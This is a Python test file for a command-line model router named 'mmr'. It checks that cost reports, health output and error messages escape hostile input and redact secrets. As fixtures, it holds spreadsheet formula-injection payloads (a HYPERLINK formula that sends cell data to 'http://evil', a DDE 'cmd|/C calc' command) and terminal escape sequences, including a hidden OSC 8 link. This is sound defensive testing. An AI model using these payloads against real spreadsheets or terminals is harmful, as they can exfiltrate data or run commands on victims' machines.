"""What mmr prints is shown, never obeyed: report cells cannot carry a spreadsheet formula or a
terminal escape, JSON stays exact, and neither a key pasted as a variable name nor a URL's
password is ever printed or recorded."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from tests.conftest import write_config
from tests.provider_server import error, reply

# A raw character a terminal would act on: C0 (but newline), DEL, C1, bidi controls, separators.
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")

FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
ESCAPES = ["\x1b[2J\x1b[31mEVIL", "\x9b31mC1", "\u202eevil", "[/]", "[link=http://evil]x[/link]", ":warning:"]


def inert(text: str) -> bool:
    return RAW.search(text) is None


def ask(mmr, *args: str, user: str | None = None, prompt: str = "What is a monad in functional programming?"):
    result = mmr("ask", "--no-stream", *(("--user", user) if user is not None else ()), *args, prompt)
    assert result.returncode == 0, result.stderr
    return result


def ask_as(mmr, users: list[str], *args: str) -> None:
    """One request per user, as one batch (a process per request is slow on a busy machine)."""
    rows = "".join(json.dumps({"id": i, "prompt": "What is a monad?", "user": u}) + "\n" for i, u in enumerate(users))
    result = mmr("ask", "--batch", "-", *args, input=rows)
    assert result.returncode == 0, result.stderr


def test_costs_csv_neutralises_formula_cells_but_not_negative_numbers(server, tmp_path, mmr):
    # The baseline is the cheapest tier and every answer comes from the dearest: savings are negative.
    config = tmp_path / "cheap-baseline.yaml"
    write_config(config, server.url)
    config.write_text(config.read_text().replace("baseline_tier: complex", "baseline_tier: simple"))
    ask(mmr, "--tier", "complex", "--config", str(config), user=FORMULAS[0])
    ask_as(mmr, [*FORMULAS[1:], "\tTAB", "plain"], "--tier", "complex", "--config", str(config))

    result = mmr("costs", "--by", "user", "--csv", "--config", str(config))
    assert result.returncode == 0, result.stderr
    out = result.stdout.decode()
    assert inert(out)
    rows = {row["user"]: row for row in csv.DictReader(io.StringIO(out))}
    for user in FORMULAS:
        assert "'" + user in rows, sorted(rows)
    assert "\\tTAB" in rows and "plain" in rows and "TOTAL" not in rows
    for row in rows.values():
        # mmr's own numbers are written as numbers: a negative saving is not quoted away.
        assert float(row["savings_usd"]) < 0 and row["savings_usd"].startswith("-")
        assert float(row["spend_usd"]) > 0


def test_costs_table_shows_escapes_and_markup_as_text(server, mmr):
    ask(mmr, user=ESCAPES[0])
    ask_as(mmr, ESCAPES[1:])
    result = mmr("costs", "--by", "user")
    assert result.returncode == 0, result.stderr
    out = result.stdout.decode()
    assert inert(out), repr(out)
    for shown in ("\\x1b[2J\\x1b[31mEVIL", "\\x9b31mC1", "\\u202eevil", "[/]", "[link=http://evil]x[/link]", ":warning:"):
        assert shown in out


def test_json_reports_stay_exact_and_hold_no_raw_control_character(server, mmr):
    ask(mmr, user=ESCAPES[0])
    ask_as(mmr, ESCAPES[1:])
    result = mmr("costs", "--by", "user", "--json")
    assert result.returncode == 0, result.stderr
    out = result.stdout.decode()
    assert inert(out), repr(out)
    assert {row["user"] for row in json.loads(out)["rows"]} == set(ESCAPES)


def test_provider_errors_are_escaped_in_notes_and_health(server, mmr):
    hostile = "\x1b]8;;http://evil\x07click\x1b]8;;\x07 \x1b[2J\x9b2J"
    server.always("claude-small", error(500, message=hostile))
    asked = mmr("ask", "--no-stream", "--json", "-v", "--tier", "simple", "What is a monad?")
    assert asked.returncode == 0, asked.stderr  # the next model of the tier answers
    notes = asked.stderr.decode()
    assert inert(notes) and "\\x1b]8;;http://evil\\x07click" in notes
    assert hostile in json.loads(asked.stdout)["attempts"][0]["error"]  # JSON keeps it exact

    health = mmr("health")
    assert health.returncode == 0, health.stderr
    assert inert(health.stdout.decode()) and "\\x1b]8;;" in health.stdout.decode()
    health_json = mmr("health", "--json")
    assert inert(health_json.stdout.decode())
    errors = [m["last_error"] for m in json.loads(health_json.stdout)["models"] if m.get("last_error")]
    assert errors and hostile in errors[0]


def test_explain_and_feedback_escape_the_prompt_user_and_note(server, mmr):
    answered = ask(mmr, "--json", user="\x1b[31mred", prompt="\x1b[2J\u202e What is a monad?\nError: forged line")
    call_id = json.loads(answered.stdout)["call_id"]

    rated = mmr("feedback", call_id, "bad", "--should-be", "complex", "--note", "\x1b[5mblink")
    assert rated.returncode == 0, rated.stderr
    assert inert(rated.stderr.decode())

    explained = mmr("explain", call_id)
    assert explained.returncode == 0, explained.stderr
    out = explained.stdout.decode()
    assert inert(out), repr(out)
    assert "user \\x1b[31mred" in out and "\\x1b[2J\\u202e What is a monad?" in out and "\\x1b[5mblink" in out
    assert json.loads(mmr("explain", call_id, "--json").stdout)["user"] == "\x1b[31mred"


def test_an_error_that_echoes_input_stays_one_inert_line(tmp_path, mmr):
    db = tmp_path / "\x1b[2J\x9bnone.db\nError: forged"
    result = mmr("explain", "01JDX7Q9M4N8R2T5V6W7X8Y9Z0", "--db", str(db))
    assert result.returncode == 2
    err = result.stderr.decode()
    assert inert(err) and len(err.splitlines()) == 1
    assert err.startswith("Error: no ledger at ") and "\\x1b[2J\\x9bnone.db\\nError: forged" in err


@pytest.mark.parametrize("name", [
    "REDTEAMSECRETNOPREFIX9876543210abcdef",  # mixed case
    "REDTEAMSECRETNOPREFIX9876543210ABCDEF",  # upper case, but one run of 37 characters
    "KEY_" + "A1B2C3D4" * 8,  # upper case, over 64 characters
    "my_router_key",  # not upper case
])
def test_a_key_pasted_into_api_key_env_is_refused_and_never_echoed(server, tmp_path, mmr, name):
    config = write_config(tmp_path / "tiers.yaml", server.url)
    config.write_text(config.read_text().replace("api_key_env: TEST_OPENAI_KEY", f"api_key_env: {name}"))
    for args in (("ask", "--json", "--no-stream", "hello"), ("ask", "--dry-run", "hello"), ("health", "--json")):
        result = mmr(*args, "--config", str(config))
        err = result.stderr.decode()
        assert result.returncode == 3, err
        assert f"{config}: providers.openai.api_key_env: must be the NAME of an environment variable" in err
        assert "this looks like a key, not a variable name" in err
        assert name not in err and name.upper() not in err and name[:12] not in err
        out = result.stdout.decode()
        assert name not in out and name.upper() not in out and name[:12] not in out
        # ask --json prints its failure as JSON too (the same message); the others print nothing.
        assert json.loads(out)["exit_code"] == 3 if args[:2] == ("ask", "--json") else out == ""
    assert server.calls() == []


def test_a_password_in_base_url_is_never_printed_or_recorded(server, tmp_path, mmr, db_path):
    url = server.url.replace("http://", "http://alice:hunter2pw@")
    config = write_config(tmp_path / "tiers.yaml", url)
    # A proxy that echoes the URL it was asked for, as some do in their errors.
    server.script("claude-small", error(500, message=f"upstream {url}/v1/messages failed"),
                  error(500, message=f"upstream {url} failed"), error(500, message=f"upstream {url} failed"))
    server.script("gpt-small", reply("A monad is a monoid in the category of endofunctors."))
    outputs = []
    asked = mmr("ask", "--json", "-v", "--no-stream", "--tier", "simple", "--config", str(config), "What is a monad?")
    assert asked.returncode == 0, asked.stderr
    attempts = json.loads(asked.stdout)["attempts"]
    assert any("upstream http://[redacted]@127.0.0.1" in (a.get("error") or "") for a in attempts), attempts
    outputs += [asked.stdout, asked.stderr]
    call_id = json.loads(asked.stdout)["call_id"]
    for args in (("health",), ("health", "--json"), ("explain", call_id), ("explain", call_id, "--json"),
                 ("costs", "--json")):
        result = mmr(*args, "--config", str(config))
        assert result.returncode == 0, result.stderr
        outputs += [result.stdout, result.stderr]
    for path in db_path.parent.glob(db_path.name + "*"):
        outputs.append(path.read_bytes())
    assert all(b"hunter2pw" not in out for out in outputs)
    assert any(b"http://[redacted]@" in out for out in outputs[2:])

    ftp = write_config(tmp_path / "ftp.yaml", "ftp://alice:hunter2pw@example.com")
    refused = mmr("ask", "--dry-run", "--config", str(ftp), "hello")
    assert refused.returncode == 3 and b"expected an http(s) URL" in refused.stderr
    assert b"hunter2pw" not in refused.stderr and b"ftp://[redacted]@example.com" in refused.stderr
